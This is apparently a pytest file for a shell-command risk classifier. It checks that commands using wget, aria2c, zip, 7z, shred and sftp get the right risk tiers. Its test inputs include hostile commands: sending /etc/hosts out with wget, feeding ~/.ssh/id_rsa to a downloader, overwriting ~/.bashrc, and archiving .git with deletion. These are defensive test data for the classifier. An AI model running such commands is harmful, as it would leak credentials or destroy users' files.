"""wget, aria2c, sftp, unzip, shred/wipe and 7z as data entries: the forms their handlers
judged weaker (each was `network` or lower before), and `delete_flags` (`zip -m`, `7z
-sdel`: the files are deleted once archived)."""

from __future__ import annotations

from pathlib import Path

import pytest

from wakeful.policy.program_rules import PROGRAMS
from wakeful.policy.programs import HANDLERS
from wakeful.policy.shell import classify_command

WS = Path("/home/dev/proj")
HOME = Path("/home/dev")


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        # aria2c runs these programs when a download starts or ends (was network)
        ("aria2c --on-download-complete=/tmp/hook.sh https://example.com/a.iso", "high"),
        ("aria2c --on-download-start /tmp/hook.sh https://example.com/a.iso", "high"),
        ("aria2c --conf-path=/tmp/aria2.conf https://example.com/a.iso", "high"),
        # its own options for where the file goes, and what it reads (was network)
        ("aria2c https://x.example/a -d /home/dev/.local/bin", "critical"),
        ("aria2c -i /home/dev/.ssh/id_rsa", "critical"),
        ("aria2c --enable-rpc --rpc-listen-all", "high"),
        # wget's long options by any unambiguous prefix, and the URL list it reads
        ("wget --post-f=/etc/hosts https://x.example", "high"),
        ("wget --output-d=/home/dev/.bashrc https://x.example/a", "critical"),
        ("wget -i /home/dev/.ssh/id_rsa", "critical"),
        # files deleted once archived (zip -m was workspace: only a read)
        ("zip -rm out.zip .git", "critical"),
        ("zip -m out.zip .git/config", "critical"),
        ("7z -sdel a out.7z /home/dev/.bashrc", "critical"),
        ("7z a -sdel out.7z /home/dev/.bashrc", "critical"),
    ],
)
def test_holes_of_the_replaced_handlers_are_closed(command: str, expected: str) -> None:
    got = classify_command(command, WS, HOME)
    assert got.tier == expected, got.reasons


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("wget -qO- https://example.com/a.txt", "network"),
        ("aria2c -x 4 -d build/iso https://example.com/a.iso", "network"),
        ("unzip -q dist/app.zip -d build", "workspace"),
        ("unzip -l dist/app.zip", "read_only"),
        ("7z x dist/app.7z -obuild", "workspace"),
        ("7z l dist/app.7z", "read_only"),
        ("zip -r out.zip src", "workspace"),
        ("shred -u build/secret.tmp", "high"),  # never below high, even in the workspace
        ("sftp deploy@host.example", "high"),
    ],
)
def test_everyday_forms_keep_their_tier(command: str, expected: str) -> None:
    assert classify_command(command, WS, HOME).tier == expected


def test_the_programs_are_data_and_keep_no_handler() -> None:
    for name in ("wget", "aria2c", "sftp", "unzip", "shred", "wipe", "7z", "7za", "7zz", "7zr"):
        assert name in PROGRAMS and name not in HANDLERS, name
        assert PROGRAMS[name].examples, name
